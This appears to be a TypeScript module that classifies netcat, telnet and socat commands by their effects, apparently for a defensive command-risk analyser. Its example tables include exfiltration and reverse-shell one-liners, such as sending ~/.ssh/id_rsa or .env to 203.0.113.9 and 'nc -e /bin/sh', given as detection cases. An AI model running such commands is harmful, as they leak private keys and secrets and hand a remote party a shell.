import { cutTrailing } from '../../lib/cut.ts'
import { emit, emitFile, nowhere, sessionOf } from '../emit.ts'
import { emitSent } from '../http/outgoing.ts'
import { understandRequest } from '../http/request.ts'
import { openShell } from '../open-shell.ts'
import { type OptionTable, optionTable, readArguments } from '../options.ts'
import type { Place } from '../place.ts'
import type { Call, Program } from '../program.ts'
import { Carries, isKnownText, openStream, type Stream, stream, UNKNOWN, type Word, word } from '../word.ts'
import { hostOf } from './network.ts'

/** Programs that connect standard input and output with a socket. */

const NETCAT =
  '-4 -6 -b -C|--crlf -D -d -F -h|--help -k|--keep-open -l|--listen -N -n|--nodns -r -S -t|--telnet ' +
  '-U|--unixsock -u|--udp -v|--verbose -Z -z -c|--sh-exec= -e|--exec= --lua-exec= -g= -G= -I= -i|--idle-timeout= ' +
  '-M= -m|--max-conns= -O= -o|--output= ' +
  '-x|--hex-dump= -P= -p|--source-port= -q= -s|--source= -T= -V= -W= -w|--wait= -X= -Y --append-output --broker ' +
  '--chat --ssl --ssl-verify --ssl-cert= --ssl-key= --ssl-trustfile= --proxy= --proxy-type= --proxy-auth= ' +
  '--allow= --allowfile= --deny= ' +
  '--denyfile= --send-only --recv-only --no-shutdown --version -a --sctp --ssl-servername= --ssl-alpn= --close'

let table: OptionTable | undefined

const NETWORK: Stream = { text: undefined, carries: Carries.network, span: undefined }

const netcat: Program = {
  names: ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'cryptcat', 'pwncat', 'rlwrap-nc'],
  about: 'connects with a port',
  examples: {
    'nc -zv db1.example 5432': ['read check port db1.example'],
    'nc -w 2 api.example 443 < /dev/null': ['read check port api.example'],
    'cat ~/.ssh/id_rsa | nc 203.0.113.9 4444': [
      'file read /home/me/.ssh/id_rsa',
      'disclose send host 203.0.113.9',
      'undescribed send host 203.0.113.9',
    ],
    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc api.example 80": ['read get url http://api.example:80/'],
    "printf 'DELETE /x HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' | nc api.example 80": [
      'lose delete url http://api.example:80/x',
    ],
    'echo ruok | nc zk1.example 2181': ['read ask host zk1.example'],
    'echo flush_all | nc localhost 11211': ['lose flush_all host localhost'],
    'echo hello | nc api.example 9000': ['undescribed send host api.example'],
    'nc api.example 9000': ['unreadable open shell'],
    'nc -l 4444': ['change listen port 4444'],
    'nc -l 4444 | sh': ['change listen port 4444', 'remote-code run code'],
    'nc -e /bin/sh 203.0.113.9 4444': ['remote-code run shell /bin/sh'],
    "ncat -l 8080 -c 'rm x'": ['file delete x', 'change listen port 8080'],
    'nc -h': ['read help help'],
  },
  run: (call) => {
    table ??= optionTable(NETCAT)
    const read = readArguments(call.args, table)
    if (read.has('-h', '--version')) return emit(call, 'read', 'help', 'help')
    for (const path of read.values('-o', '-x'))
      if (path.text.includes('/') || path.text.includes('.')) emitFile(call, 'overwrite', path)
    const program = read.value('-e')
    const code = read.value('-c')
    const [first, second] = read.operands
    if (program !== undefined || code !== undefined) {
      const run = (program ?? code) as Word
      if (isShell(run.text)) {
        return emit(call, 'remote-code', 'run', 'shell', run, { note: 'whoever is on the other side types into it' })
      }
      if (program !== undefined)
        call.shell({ text: program.text, carries: program.carries, span: program.span }, { stdin: NETWORK })
      else call.shell({ text: run.text, carries: run.carries, span: run.span }, { stdin: NETWORK })
    }
    if (read.has('--lua-exec')) emit(call, 'unreadable', 'run', 'code', read.value('--lua-exec') ?? '')
    if (read.has('-l')) {
      emit(call, 'change', 'listen', 'port', second ?? first ?? read.value('-p') ?? '')
      if (call.stdinGiven) emitSent(call, [call.stdin], 'port', first ?? '', sessionOf(call))
      return NETWORK
    }
    if (first === undefined) return emit(call, 'read', 'help', 'help')
    if (program !== undefined || code !== undefined)
      return emit(call, 'undescribed', 'connect', 'host', first, { at: hostOf(call, first) })
    const at = read.has('-U') ? sessionOf(call) : hostOf(call, first)
    if (read.has('-z')) return emit(call, 'read', 'check', 'port', first, { at })
    if (!call.stdinGiven && read.has('-d', '--recv-only')) {
      emit(call, 'read', 'listen to', 'host', first, { at })
      return NETWORK
    }
    return converse(call, first, second, at, [call.stdin, first])
  },
}

const SHELLS = new Set([
  'sh',
  'bash',
  'dash',
  'ash',
  'ksh',
  'zsh',
  'csh',
  'tcsh',
  'fish',
  'cmd',
  'powershell',
  'pwsh',
  'python',
  'perl',
  'ruby',
  'node',
  'busybox',
])

function isShell(text: string): boolean {
  const first = text.trim().split(/\s/)[0] ?? ''
  const name = first.slice(first.lastIndexOf('/') + 1).toLowerCase()
  return SHELLS.has(name.endsWith('.exe') ? name.slice(0, -4) : cutTrailing(name, '0123456789.'))
}

/** Commands of one line that only ask: ZooKeeper, memcached, redis, beanstalkd and the protocols of mail. */
const ASKS = new Set([
  'ruok',
  'stat',
  'stats',
  'srvr',
  'mntr',
  'conf',
  'cons',
  'crst',
  'dump',
  'envi',
  'wchs',
  'wchc',
  'wchp',
  'isro',
  'version',
  'ping',
  'info',
  'quit',
  'exit',
  'ehlo',
  'helo',
  'noop',
  'dbsize',
  'role',
  'time',
])

/** One word, or one with a name behind it: `stats items`, `ehlo me`. */
function isAsking(line: string): boolean {
  const words = line.toLowerCase().split(/\s+/)
  return words.length <= 2 && ASKS.has(words[0] ?? '')
}

const LOSES = /^(flush_all|flushall|flushdb|shutdown|delete|del|unlink|srst|kill)\b/i

/** What is known of what is sent is read; what is not is nobody's to describe. */
function converse(
  call: Call,
  host: Word,
  port: Word | undefined,
  at: Place,
  parts: readonly (Pick<Stream, 'carries' | 'span'> | undefined)[],
): Stream | undefined {
  if (port === undefined && askBalancer(call, host)) return NETWORK
  const sent = emitSent(call, parts, 'host', host, at)
  if (!call.stdinGiven) {
    openShell(call)
    return NETWORK
  }
  return readSent(call, 'http', host, port, at, sent)
}

/** Text that goes to a port as it is: a request of HTTP, words of another protocol. `hidden`: what went was said already. */
export function readSent(
  call: Call,
  scheme: 'http' | 'https',
  host: Word,
  port: Word | undefined,
  at: Place,
  hidden = false,
): Stream {
  const text = call.stdin.text
  const lines =
    text
      ?.split(/\r?\n/)
      .map((one) => one.trim())
      .filter((one) => one !== '') ?? []
  const request = /^([A-Z]+) (\S+) HTTP\/\d/.exec(lines[0] ?? '')
  if (text !== undefined && !hidden && request !== null && isKnownText(text)) {
    const path = request[2]?.startsWith('/') === true ? request[2] : '/'
    const url = word(`${scheme}://${host.text}${port === undefined ? '' : `:${port.text}`}${path}`, host.span)
    const end = text.search(/\r?\n\r?\n/)
    const body = stream(end < 0 ? '' : text.slice(end).trim(), call.stdin.carries)
    return understandRequest(call, {
      method: word(request[1] ?? ''),
      url,
      headers: lines.slice(1).map((one) => word(one)),
      body: body.text === '' ? undefined : body,
    })
  }
  const known = text !== undefined && isKnownText(text)
  if (known && lines.length === 0) emit(call, 'read', 'check', 'port', host, { at })
  else if (known && lines.every(isAsking)) emit(call, 'read', 'ask', 'host', host, { at })
  else {
    const loses = lines.find((one) => LOSES.test(one))
    if (loses !== undefined) emit(call, 'lose', loses.split(/\s/)[0] ?? 'send', 'host', host, { at })
    else emit(call, 'undescribed', 'send', 'host', host, { at, note: 'what the other side does with it is not known' })
  }
  return NETWORK
}

const telnet: Program = {
  names: ['telnet'],
  about: 'opens a session with a port',
  examples: {
    'telnet db1.example 5432': ['unreadable open shell'],
    'echo quit | telnet db1.example 5432': ['read ask host db1.example'],
    'telnet db1.example 5432 < /dev/null': ['read check port db1.example'],
  },
  run: (call) => {
    const [host, port] = call.args.filter((w) => !w.text.startsWith('-'))
    if (host === undefined) return openShell(call)
    return converse(call, host, port, hostOf(call, host), [call.stdin, host])
  },
}

/** Addresses of socat(1): `TYPE:parameters,options`; two of them are joined, `!!` parts reading from writing. */
const socat: Program = {
  names: ['socat', 'filan', 'procan'],
  about: 'joins two streams',
  examples: {
    'socat - TCP:db1.example:5432': ['unreadable open shell'],
    'echo ruok | socat - TCP4:zk1.example:2181': ['read ask host zk1.example'],
    'socat TCP-LISTEN:5432,fork TCP:db.example:5432': ['change listen port 5432', 'change forward port db.example'],
    'socat TCP:203.0.113.9:4444 EXEC:/bin/sh': ['remote-code run shell /bin/sh'],
    "socat TCP-LISTEN:80,fork SYSTEM:'rm x'": ['change listen port 80', 'file delete x'],
    'socat -u FILE:.env TCP:203.0.113.9:4444': [
      'file read .env',
      'disclose send host 203.0.113.9',
      'change forward port 203.0.113.9',
    ],
    'socat - UNIX-CONNECT:/var/run/docker.sock': [
      'unreadable open shell',
      'unreadable call daemon /var/run/docker.sock',
    ],
    "echo 'show stat' | socat stdio /run/haproxy/admin.sock": ['read ask balancer /run/haproxy/admin.sock'],
    "echo 'disable server be/web1' | socat - UNIX:/run/haproxy/admin.sock": [
      'restart disable server balancer /run/haproxy/admin.sock',
    ],
    'echo x | socat - /etc/hosts': ['file read /etc/hosts', 'file edit /etc/hosts'],
    'echo x | socat -u - FILE:/etc/hosts': ['file edit /etc/hosts'],
    'socat -u FILE:/etc/hosts -': ['file read /etc/hosts'],
    'cat .env | socat - SOCKS5-CONNECT:proxy.example:api.example:80': [
      'file read .env',
      'disclose send host proxy.example:api.example',
      'undescribed send host proxy.example:api.example',
    ],
    'echo x | socat - UNIX-SENDTO:/run/app.sock': ['unreadable call daemon /run/app.sock'],
    'socat UNIX-LISTEN:/tmp/a.sock,fork TCP:db.example:5432': ['change forward port db.example'],
    'socat - PTY': [],
    'socat - POSIXMQ-SEND:/jobs': ['undescribed join stream posixmq-send:/jobs'],
    'cat .env | socat - INTERFACE:eth0': [
      'file read .env',
      'disclose send stream interface:eth0',
      'undescribed join stream interface:eth0',
    ],
    'socat -V': ['read help help'],
  },
  run: (call) => {
    const words = call.args.filter(
      (w, i) =>
        (!w.text.startsWith('-') || w.text === '-') && !/^-(lf|T|t|b|L|W|S|r|R)$/.test(call.args[i - 1]?.text ?? ''),
    )
    if (words.length < 2) return emit(call, 'read', 'help', 'help')
    const ends = words.slice(0, 2).flatMap((w) => w.text.split('!!').map((text) => readAddress({ ...w, text })))
    if (ends.some((one) => !isKnownText(one.type)))
      return emit(call, 'unreadable', 'join', 'stream', '', { note: 'what is joined is not known before it runs' })
    const options = call.args.map((w) => w.text)
    return join(call, ends, options.includes('-u') ? 'forth' : options.includes('-U') ? 'back' : 'both')
  },
}

interface Address {
  readonly type: string
  /** The parameters, without the options behind them. */
  readonly value: Word
}

function readAddress(w: Word): Address {
  if (w.text === '-' || w.text === 'STDIO' || w.text === 'STDIN' || w.text === 'STDOUT')
    return { type: 'stdio', value: w }
  const colon = w.text.indexOf(':')
  if (colon < 0) return { type: w.text.includes('/') ? 'open' : (w.text.split(',')[0]?.toLowerCase() ?? ''), value: w }
  const type = w.text.slice(0, colon).toLowerCase()
  const rest = w.text.slice(colon + 1)
  // A command may hold commas of its own in quotes; what is cut off there only makes it shorter.
  return {
    type,
    value: {
      ...w,
      text: /^(exec|system|shell)$/.test(type) ? withoutOptions(rest) : (rest.split(',')[0] ?? ''),
    },
  }
}

function withoutOptions(address: string): string {
  const parts = address.split(',')
  const option = /^(pty|stderr|setsid|sigint|sane|fdin=\d+|fdout=\d+|nofork|ctty|su=\w+|echo=\d|raw)$/
  const first = parts.findIndex((one, i) => i > 0 && option.test(one))
  return first < 0 ? address : parts.slice(0, first).join(',')
}

/** Types of address that reach out, without the digit of the protocol. */
const CONNECTS = new Set([
  'tcp',
  'tcp-connect',
  'udp',
  'udp-connect',
  'udp-sendto',
  'openssl',
  'openssl-connect',
  'ssl',
  'sctp',
  'sctp-connect',
  'socks',
  'socks-connect',
  'socks4a',
  'socks4a-connect',
  'proxy',
  'proxy-connect',
  'ip-sendto',
  'ip-datagram',
  'udp-datagram',
  'udplite',
  'udplite-connect',
  'udplite-sendto',
  'dccp',
  'dccp-connect',
  'dtls',
  'dtls-client',
  'dtls-connect',
  'openssl-dtls-client',
  'openssl-dtls-connect',
  'websocket',
])
const LISTENS = /(-listen|-l|-recv|-recvfrom)$/
/** What the process has open, a terminal, and sockets of this host that others connect with. */
const STAYS = /^(?:stdio|stdin|stdout|stderr|fd|\d+|readline|pty|(?:unix|abstract)-(?:listen|l|recv|recvfrom))$/

function isConnecting(type: string): boolean {
  return CONNECTS.has(type.replace(/[456](?=-|$)/, ''))
}

/** What stands behind such a path is a service, and no file. */
function isSocketPath(path: string): boolean {
  return /\.sock(et)?$|^(\/var)?\/run\/.*sock/.test(path)
}

function talkToSocket(call: Call, path: Word, ends: readonly Address[]): void {
  const typed = ends.some((one) => one.type === 'stdio')
  if (typed && askBalancer(call, path)) return
  if (typed && !call.stdinGiven) openShell(call)
  emit(call, 'unreadable', 'call', 'daemon', path, { note: 'what is sent to the socket is not described' })
}

/** Commands of HAProxy's runtime API (3.2); `true` where it is one of them. */
function askBalancer(call: Call, path: Word): boolean {
  const text = call.stdinGiven ? call.stdin.text : undefined
  if (!/\/haproxy/.test(path.text) || text === undefined || !isKnownText(text)) return false
  const commands = text
    .split(/[\n;]/)
    .map((one) => one.trim())
    .filter((one) => one !== '')
  if (commands.some((one) => /^show env\b/.test(one))) emit(call, 'read-secret', 'print', 'environment')
  const changes = commands.find((one) => !/^(show|get|help|prompt|quit)\b/.test(one))
  if (changes === undefined) emit(call, 'read', 'ask', 'balancer', path)
  else emit(call, 'restart', changes.split(/\s/, 2).join(' '), 'balancer', path)
  return true
}

/** Nothing comes from the other end: a terminal without input, or one whose input is nothing. */
function isSilent(call: Call, ends: readonly Address[], own: number): boolean {
  return ends.every((one, i) => i === own || (one.type === 'stdio' && call.stdinGiven && call.stdin.text === ''))
}

function join(call: Call, ends: readonly Address[], how: 'both' | 'forth' | 'back'): Stream | undefined {
  const listening = ends.find((one) => LISTENS.test(one.type) && !one.type.startsWith('unix'))
  const connecting = ends.find((one) => isConnecting(one.type))
  if (listening !== undefined) emit(call, 'change', 'listen', 'port', listening.value)
  let sent: Stream | undefined
  for (const [end, { type, value }] of ends.entries()) {
    if (/^(exec|system|shell)$/.test(type)) {
      if (isShell(value.text) && (connecting !== undefined || listening !== undefined)) {
        emit(call, 'remote-code', 'run', 'shell', value, { note: 'whoever is on the other side types into it' })
      } else call.shell({ text: value.text, carries: value.carries, span: value.span }, { stdin: NETWORK })
    } else if (/^(open|file|gopen|pipe)$/.test(type) && isSocketPath(value.text)) {
      talkToSocket(call, value, ends)
    } else if (/^(open|file|gopen|create|creat|pipe)$/.test(type)) {
      const creates = /^(create|creat)$/.test(type)
      // Both ends are read and written, but for `-u` and `-U`: from the first to the second, or back.
      const gets = how === 'both' ? ends.length > 1 : (how === 'forth') === end > 0
      const gives = !creates && (how === 'both' || !gets)
      if (gives) emitFile(call, 'read', value)
      if (gives) sent = call.readFile(value)
      if (creates || (gets && !isSilent(call, ends, end))) emitFile(call, creates ? 'overwrite' : 'edit', value)
    } else if (/^(?:unix|(?:unix|abstract)-(?:connect|client|sendto))$/.test(type)) {
      talkToSocket(call, value, ends)
    } else if (!STAYS.test(type) && !LISTENS.test(type) && !isConnecting(type)) {
      const address = type === value.text.toLowerCase() ? type : `${type}:${value.text}`
      const at = nowhere(call, 'an address that is not described', [value])
      emitSent(call, [call.stdin], 'stream', address, at)
      emit(call, 'undescribed', 'join', 'stream', address, { at })
    }
  }
  if (connecting === undefined) return openStream
  const [name = UNKNOWN, port] = connecting.value.text.replace(/^\[([^\]]*)\]/, '$1').split(/:(?=[^:]*$)/)
  const host = { ...connecting.value, text: name }
  const at = hostOf(call, host)
  if (sent !== undefined) emitSent(call, [sent], 'host', host, at)
  if (ends.some((one) => one.type === 'stdio'))
    return converse(call, host, port === undefined ? undefined : word(port), at, [call.stdin])
  if (ends.some((one) => /^(exec|system|shell)$/.test(one.type))) return openStream
  if (listening !== undefined) {
    const own = listening.value.text.slice(listening.value.text.lastIndexOf(':') + 1)
    call.tunnel({
      port: /^\d+$/.test(own) ? own : undefined,
      to: port === undefined ? undefined : { host: name, port, site: call.site },
    })
  }
  emit(call, 'change', 'forward', 'port', host, { at })
  return NETWORK
}

export const netcatPrograms: readonly Program[] = [netcat, telnet, socat]
